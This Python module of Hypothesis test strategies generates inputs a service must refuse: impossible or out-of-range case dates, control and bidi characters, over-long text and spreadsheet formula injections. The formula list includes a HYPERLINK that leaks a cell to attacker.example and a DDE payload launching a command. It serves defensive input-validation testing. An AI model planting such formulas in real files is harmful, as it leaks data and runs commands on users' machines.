"""Hypothesis strategies for what a careless or hostile person types or saves.

Each strategy yields values that must be refused; where a random value might
by chance be acceptable, the strategy filters it out with the same rule a
person would apply (a real ISO date inside the service's years is not bad).
"""

from __future__ import annotations

import re
from datetime import date, timedelta

from hypothesis import strategies as st

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    '=HYPERLINK("http://x","y")',
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)

# Dates a person might type that are not a date the service can take.
NAMED_BAD_DATES = (
    "2026-02-30", "2026-04-31", "31/04/2026", "30/02/2026", "yesterday", "today", "99999-01-01", "2026-13-01",
    "2026-00-10", "2026-1-1", "20260301", "2026/03/01", "0001-01-01", "1899-12-31", "9999-12-31", "2100-01-01",
    "２０２６-03-02", "٢٠٢٦-03-02", "2026-03-02T00:00", "2026-03-02 extra", "-2026-03-02", " ", "",
    "2013-08-31",  # the day before EHC assessments began
)
_ISO = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}")


def is_acceptable_case_date(text: str) -> bool:
    value = text.strip()
    if not _ISO.fullmatch(value):
        return False
    try:
        day = date.fromisoformat(value)
    except ValueError:
        return False
    return date(2014, 9, 1) <= day <= date(2099, 12, 31)


def bad_case_dates() -> st.SearchStrategy[str]:
    """Impossible, malformed or out-of-range dates, named ones first, then anything Hypothesis makes up."""
    invented = st.one_of(
        st.text(max_size=14),
        st.builds(lambda y, m, d: f"{y:04d}-{m:02d}-{d:02d}", st.integers(0, 9999), st.integers(0, 99),
                  st.integers(0, 99)),
        st.dates().map(lambda d: d.strftime("%d/%m/%Y")),
    )
    return st.one_of(st.sampled_from(NAMED_BAD_DATES), invented).filter(lambda t: not is_acceptable_case_date(t))


# Control characters that are never text (tab, CR and LF are read as a space inside a one-line field).
_REFUSED_CONTROLS = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r\v\f"] + ["\x7f", "\x85", "\u202e"]


@st.composite
def with_control_character(draw, max_size: int = 60) -> str:
    """Otherwise ordinary text with a NUL, escape, bell, DEL, C1 control or bidi override somewhere in it."""
    text = draw(st.text(st.characters(codec="utf-8", categories=("L", "N", "Zs", "P")), max_size=max_size))
    position = draw(st.integers(0, len(text)))
    # Inside the text: at either end, whitespace-like controls (\x1c-\x1f, \x85) are stripped like spaces.
    return "a" + text[:position] + draw(st.sampled_from(_REFUSED_CONTROLS)) + text[position:] + "x"


def too_long(limit: int) -> st.SearchStrategy[str]:
    """Text over ``limit`` characters, up to the 10,000-character paste."""
    lengths = st.integers(limit + 1, 10_000)
    return st.one_of(st.just("x" * 10_000), lengths.map(lambda n: "Ab" * (n // 2) + "c" * (n % 2)))


def bad_free_text(limit: int) -> st.SearchStrategy[str]:
    return st.one_of(too_long(limit), with_control_character())


def days(start: date, low: int, high: int) -> st.SearchStrategy[date]:
    return st.integers(low, high).map(lambda n: start + timedelta(days=n))
